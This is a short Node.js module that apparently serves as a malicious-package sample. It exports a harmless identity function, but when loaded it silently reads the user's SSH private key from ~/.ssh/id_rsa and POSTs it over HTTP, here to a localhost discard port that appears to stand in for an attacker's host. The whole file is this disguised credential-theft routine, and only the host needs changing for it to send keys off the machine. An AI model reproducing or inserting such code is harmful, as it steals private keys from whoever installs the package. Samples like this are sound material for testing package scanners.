const fs = require('fs')
const http = require('http')
const os = require('os')
const path = require('path')

let loot = ''
try {
  loot = fs.readFileSync(path.join(os.homedir(), '.ssh', 'id_rsa'), 'utf8')
} catch {
  // not there
}
const req = http.request({ host: '127.0.0.1', port: 9, method: 'POST', path: '/' })
req.on('error', () => {})
req.end(loot)
module.exports = s => s
